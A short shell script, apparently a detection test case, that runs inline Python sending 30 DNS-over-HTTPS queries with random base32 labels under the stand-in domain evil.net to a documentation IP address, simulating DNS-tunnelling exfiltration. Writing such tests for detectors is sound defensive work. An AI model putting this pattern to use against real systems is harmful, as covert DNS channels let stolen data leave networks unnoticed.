#!/bin/sh
. /opt/case/case.sh

python3 -c '
import base64, os, urllib.request
for n in range(30):
    label = base64.b32encode(os.urandom(30)).rstrip(b"=").lower()
    question = b"\0\0\1\0\0\1\0\0\0\0\0\0" + bytes([len(label)]) + label + b"\1c\4evil\3net\0\0\x10\0\1"
    q = base64.urlsafe_b64encode(question).rstrip(b"=").decode()
    urllib.request.urlopen(urllib.request.Request("http://198.51.100.8:8080/dns-query?dns=" + q, headers={"Accept": "application/dns-message"})).read()'
took_place
